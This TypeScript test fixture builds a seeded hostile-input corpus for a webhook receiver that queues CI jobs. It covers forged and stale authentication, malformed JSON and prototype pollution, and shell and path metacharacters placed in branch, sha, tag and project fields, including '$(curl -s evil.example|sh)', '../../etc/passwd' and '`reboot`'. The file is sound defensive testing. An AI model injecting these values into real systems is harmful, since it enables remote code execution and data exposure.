/**
 * The hostile-input corpus (issue 6, item 4), generated from a seed: the receiver fuzz harness's mutations,
 * plus four families aimed at what fjord promises — authentication attacks on requests that would queue a
 * job if they were authentic; shell and path metacharacters in every webhook value that reaches a job
 * (branch, sha, git tag, project); broken structure (truncated JSON, huge strings, deep nesting, wrong
 * content types, bad UTF-8); and paths and headers an attacker picks. Each case says whether it may
 * queue a job at all: `none` means no job may come of it, whatever the answer.
 */
import { createHmac } from 'node:crypto';
import { signStandardWebhook } from '../../lib/events/verify-standard-webhook.js';
import { bases, makeCase, type Base, type Case } from '../fixtures/fuzz-cases.js';
import type { Rng } from '../fixtures/prng.js';
import { GITHUB_SECRETS, GITLAB_TOKENS, payload, SIGNING_KEYS } from '../fixtures/receiver.js';

export interface HostileCase extends Case {
  family: 'fuzz' | 'auth' | 'inject' | 'structure';
  /** `none`: no job may be queued from this request. `any`: it may be a valid webhook. */
  expect: 'none' | 'any';
  what: string;
}

/** Values an attacker puts where a branch, sha, tag or project goes: each breaks its grammar. */
export const METACHARACTERS = [
  ';id',
  '$(id)',
  '`id`',
  '\n',
  '\r\n',
  '../',
  '../../etc/passwd',
  'a/../b',
  '$(curl -s evil.example|sh)',
  '`reboot`',
  '&&id',
  '|id',
  '>x',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a hostile value, a shell expansion on purpose
  '${IFS}',
  '\u0000',
  '\u202e',
  "' OR 1=1",
  '{{7*7}}',
  ' ',
  '%0a',
  'A'.repeat(300),
  '\nX-Injected: 1',
];

interface Target {
  base: Base;
  /** Where a value lands that must pass a strict grammar before it reaches a job. */
  points: Array<{ name: string; set: (body: any, value: string) => void }>;
}

function targets(): Target[] {
  const [mr, push, , pr] = bases();
  const tag = {
    ...push!,
    body: { ...structuredClone(push!.body), object_kind: 'tag_push', ref: 'refs/tags/v1.2.3' },
    event: ['X-Gitlab-Event', 'Tag Push Hook'] as [string, string],
  };
  const pipeline = {
    path: '/hooks/gitlab',
    event: ['X-Gitlab-Event', 'Pipeline Hook'] as [string, string],
    body: payload('gitlab-pipeline'),
  };
  pipeline.body.project.path_with_namespace = 'acme/jobs';
  return [
    {
      base: mr!,
      points: [
        { name: 'target_branch', set: (b, v) => (b.object_attributes.target_branch = v) },
        { name: 'merge_commit_sha', set: (b, v) => (b.object_attributes.merge_commit_sha = v) },
        { name: 'project', set: (b, v) => (b.project.path_with_namespace = v) },
      ],
    },
    {
      base: push!,
      points: [
        { name: 'ref', set: (b, v) => (b.ref = `refs/heads/${v}`) },
        {
          name: 'after',
          set: (b, v) => {
            b.after = v;
            b.checkout_sha = v;
          },
        },
      ],
    },
    { base: tag, points: [{ name: 'git tag', set: (b, v) => (b.ref = `refs/tags/${v}`) }] },
    {
      base: pipeline,
      points: [
        { name: 'pipeline ref', set: (b, v) => (b.object_attributes.ref = v) },
        { name: 'pipeline sha', set: (b, v) => (b.object_attributes.sha = v) },
      ],
    },
    {
      base: pr!,
      points: [
        { name: 'base.ref', set: (b, v) => (b.pull_request.base.ref = v) },
        { name: 'github merge_commit_sha', set: (b, v) => (b.pull_request.merge_commit_sha = v) },
      ],
    },
  ];
}

/** Headers that authenticate `body` for the base's route, by token, signature or GitHub HMAC. */
function validAuth(rng: Rng, base: Base, body: Buffer): [string, string][] {
  if (base.path === '/hooks/github')
    return [
      ['X-Hub-Signature-256', 'sha256=' + createHmac('sha256', rng.pick(GITHUB_SECRETS)).update(body).digest('hex')],
    ];
  if (rng.chance(0.5)) return [['X-Gitlab-Token', rng.pick(GITLAB_TOKENS)]];
  const id = `msg_${rng.int(1e9)}`;
  const ts = Math.floor(Date.now() / 1000);
  return [
    ['webhook-id', id],
    ['webhook-timestamp', String(ts)],
    ['webhook-signature', signStandardWebhook(rng.pick(SIGNING_KEYS), id, ts, body)],
  ];
}

/** Authentication that must fail, on a body that would otherwise queue a job. */
function badAuth(rng: Rng, base: Base, body: Buffer): { headers: [string, string][]; what: string } {
  const other = Buffer.concat([body, Buffer.from(' ')]);
  if (base.path === '/hooks/github') {
    const sig = (secret: string, b: Buffer) => 'sha256=' + createHmac('sha256', secret).update(b).digest('hex');
    const options: Array<[string, [string, string][]]> = [
      ['no signature', []],
      ['wrong secret', [['X-Hub-Signature-256', sig('not-the-secret', body)]]],
      ['signature of another body', [['X-Hub-Signature-256', sig(GITHUB_SECRETS[0], other)]]],
      [
        'sha1 signature only',
        [['X-Hub-Signature', 'sha1=' + createHmac('sha1', GITHUB_SECRETS[0]).update(body).digest('hex')]],
      ],
      ['truncated signature', [['X-Hub-Signature-256', sig(GITHUB_SECRETS[1], body).slice(0, 40)]]],
      ['GitLab token on the GitHub route', [['X-Gitlab-Token', GITLAB_TOKENS[0]]]],
    ];
    const [what, headers] = rng.pick(options);
    return { headers, what };
  }
  const token = GITLAB_TOKENS[0];
  const now = Math.floor(Date.now() / 1000);
  const signed = (key: string, b: Buffer, ts = now, id = 'msg_1'): [string, string][] => [
    ['webhook-id', id],
    ['webhook-timestamp', String(ts)],
    ['webhook-signature', signStandardWebhook(key, id, ts, b)],
  ];
  const options: Array<[string, [string, string][]]> = [
    ['no token', []],
    ['empty token', [['X-Gitlab-Token', '']]],
    ['wrong token', [['X-Gitlab-Token', 'gl-guess-0000000000']]],
    ['token with a correct prefix', [['X-Gitlab-Token', token.slice(0, -1) + 'x']]],
    ['token with a suffix', [['X-Gitlab-Token', token + 'x']]],
    ['token upper-cased', [['X-Gitlab-Token', token.toUpperCase()]]],
    ['5000-character token', [['X-Gitlab-Token', token.repeat(300).slice(0, 5000)]]],
    ['GitHub secret as token', [['X-Gitlab-Token', GITHUB_SECRETS[0]]]],
    ['signature of another body', signed(SIGNING_KEYS[0], other)],
    ['signature with an unknown key', signed('whsec_' + Buffer.alloc(32, 1).toString('base64'), body)],
    ['signature an hour old', signed(SIGNING_KEYS[1], body, now - 3600)],
    ['signature from the future', signed(SIGNING_KEYS[1], body, now + 3600)],
    [
      'signature under another webhook-id',
      signed(SIGNING_KEYS[0], body, now, 'msg_1').map(
        ([k, v]) => [k, k === 'webhook-id' ? 'msg_2' : v] as [string, string],
      ),
    ],
    [
      'garbage signature',
      [
        ['webhook-id', 'm'],
        ['webhook-timestamp', String(now)],
        ['webhook-signature', 'v1,' + 'A'.repeat(44) + ' v2,x ,,,'],
      ],
    ],
    ['valid token but a bad signature', [['X-Gitlab-Token', token], ...signed(SIGNING_KEYS[0], other)]],
  ];
  const [what, headers] = rng.pick(options);
  return { headers, what };
}

function injection(rng: Rng, all: Target[]): HostileCase {
  const t = rng.pick(all);
  const point = rng.pick(t.points);
  const bad = rng.pick(METACHARACTERS);
  const legit =
    point.name.includes('sha') || point.name === 'after'
      ? '4f1e9c2ab5d37086e1f2c3b4a5d6e7f8091a2b3c'
      : point.name.includes('tag')
        ? 'v1.2.3'
        : 'main';
  const value = rng.pick([bad, legit + bad, bad + legit, legit.slice(0, 2) + bad + legit.slice(2)]);
  const body = structuredClone(t.base.body);
  point.set(body, value);
  const bytes = Buffer.from(JSON.stringify(body));
  const headers: [string, string][] = [
    t.base.event,
    ['Content-Type', 'application/json'],
    ...validAuth(rng, t.base, bytes),
  ];
  return {
    family: 'inject',
    expect: 'none',
    what: `${point.name} = ${JSON.stringify(value).slice(0, 60)}`,
    path: t.base.path,
    headers,
    body: bytes,
    auth: 'valid',
  };
}

function structure(rng: Rng, all: Target[]): HostileCase {
  const t = rng.pick(all);
  const text = JSON.stringify(t.base.body);
  const kinds: Array<() => { body: Buffer; type?: string; what: string; expect: HostileCase['expect'] }> = [
    () => ({ body: Buffer.from(text.slice(0, 1 + rng.int(text.length - 2))), what: 'truncated JSON', expect: 'none' }),
    () => ({
      body: Buffer.from(text.replace('{', `{"description":"${'x'.repeat(900_000)}",`)),
      what: '900 KB string',
      expect: 'any',
    }),
    () => ({
      body: Buffer.from(text.replace('{', `{"description":"${'x'.repeat(1_100_000)}",`)),
      what: '1.1 MB body',
      expect: 'none',
    }),
    // Deep enough to break a recursive parser or walker; the fuzz cases go deeper, less often.
    () => ({
      body: Buffer.from(
        text.replace(
          '{',
          `{"deep":${'['.repeat(50_000)}${'{"a":'.repeat(1000)}1${'}'.repeat(1000)}${']'.repeat(50_000)},`,
        ),
      ),
      what: 'nesting 51,000 deep',
      expect: 'any',
    }),
    () => ({ body: Buffer.from('['.repeat(100_000) + ']'.repeat(100_000)), what: 'a bare deep array', expect: 'none' }),
    () => ({
      body: Buffer.from(text),
      type: rng.pick([
        'text/plain',
        'application/x-www-form-urlencoded',
        'multipart/form-data; boundary=x',
        'application/json; charset=latin1',
        'application/jsonp',
        '',
        'application/json\u0000',
      ]),
      what: 'wrong content type',
      expect: 'none',
    }),
    () => ({
      body: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text)]),
      what: 'byte order mark',
      expect: 'none',
    }),
    () => ({
      body: Buffer.from(text.replace('"', '"\xff\xfe').replace(/"/, '"'), 'latin1'),
      what: 'bytes that are not UTF-8',
      expect: 'none',
    }),
    () => ({
      body: Buffer.from(
        rng.pick([
          '',
          'null',
          '[]',
          '"x"',
          '1e999',
          '{"__proto__":{"polluted":1}}',
          '{"constructor":{"prototype":{}}}',
        ]),
      ),
      what: 'not a webhook object',
      expect: 'none',
    }),
  ];
  const k = rng.pick(kinds)();
  const headers: [string, string][] = [
    t.base.event,
    ['Content-Type', k.type ?? 'application/json'],
    ...validAuth(rng, t.base, k.body),
  ];
  return {
    family: 'structure',
    expect: k.expect,
    what: k.what,
    path: t.base.path,
    headers,
    body: k.body,
    auth: 'valid',
    chunked: rng.chance(0.2),
  };
}

/** `total` cases, the same ones for the same seed. */
export function* hostileCorpus(rng: Rng, total: number): Generator<HostileCase> {
  const all = targets();
  const fuzzBases = bases();
  for (let i = 0; i < total; i++) {
    const r = i % 20;
    if (r < 9) {
      const c = makeCase(rng, rng.pick(fuzzBases));
      yield { ...c, family: 'fuzz', expect: c.auth === 'invalid' ? 'none' : 'any', what: `fuzz (auth ${c.auth})` };
    } else if (r < 13) {
      const t = rng.pick(all);
      const body = Buffer.from(JSON.stringify(t.base.body));
      const { headers, what } = badAuth(rng, t.base, body);
      yield {
        family: 'auth',
        expect: 'none',
        what,
        path: t.base.path,
        headers: [t.base.event, ['Content-Type', 'application/json'], ...headers],
        body,
        auth: 'invalid',
      };
    } else if (r < 17) yield injection(rng, all);
    else yield structure(rng, all);
  }
}
